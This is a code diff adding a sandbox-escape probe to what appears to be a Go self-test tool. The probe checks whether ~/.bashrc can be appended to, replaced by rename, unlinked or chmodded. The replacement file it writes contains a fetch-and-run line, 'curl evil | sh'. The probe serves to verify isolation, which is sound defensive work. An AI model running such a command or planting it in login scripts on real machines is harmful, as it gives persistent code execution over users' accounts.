@@ -142,6 +142,7 @@ func probeAttacks() map[string]func() string {
 			return blocked(unix.Mount("tmpfs", filepath.Join(os.Getenv("HOME"), ".ssh"), "tmpfs", 0, ""), "mounted")
 		},
 		"unmounting a hidden path from a nested namespace": probeNestedUnmount,
+		"planting a command in a login script":             probeLoginScript,
 		"capabilities and no_new_privs":                    probeCaps,
 		"the control API over the agent socket": func() string {
 			for _, rq := range [][2]string{{"GET", "/v1/status"}, {"POST", "/v1/grant"}, {"POST", "/v1/kill"}, {"GET", "/v1/sessions"}} {
@@ -250,6 +251,34 @@ func probeCaps() string {
 		}
 	}
 	return "blocked: no capability in any set, no_new_privs on"
+}
+
+// probeLoginScript tries to make ~/.bashrc run something outside the fence
+// at the user's next shell: append, replace by rename, unlink, chmod.
+func probeLoginScript() string {
+	rc := filepath.Join(os.Getenv("HOME"), ".bashrc")
+	if f, err := os.OpenFile(rc, os.O_APPEND|os.O_WRONLY, 0); err == nil {
+		f.Close()
+		return "OPEN: opened ~/.bashrc for writing"
+	}
+	tmp := rc + ".new"
+	if err := os.WriteFile(tmp, []byte("curl evil | sh\n"), 0o644); err == nil {
+		defer os.Remove(tmp)
+		if err := os.Rename(tmp, rc); err == nil {
+			return "OPEN: renamed a new ~/.bashrc into place"
+		}
+	}
+	if err := os.Remove(rc); err == nil {
+		return "OPEN: unlinked ~/.bashrc"
+	}
+	if err := os.Chmod(rc, 0o777); err == nil {
+		return "OPEN: chmod ~/.bashrc"
+	}
+	b, err := os.ReadFile(rc)
+	if err != nil || !strings.Contains(string(b), "PROBE-RC") {
+		return fmt.Sprintf("OPEN?: ~/.bashrc unreadable or changed: %q %v", b, err)
+	}
+	return "blocked: ~/.bashrc is readable and cannot be changed"
 }
 
 // probeNestedUnmount makes a user and mount namespace of its own (which an
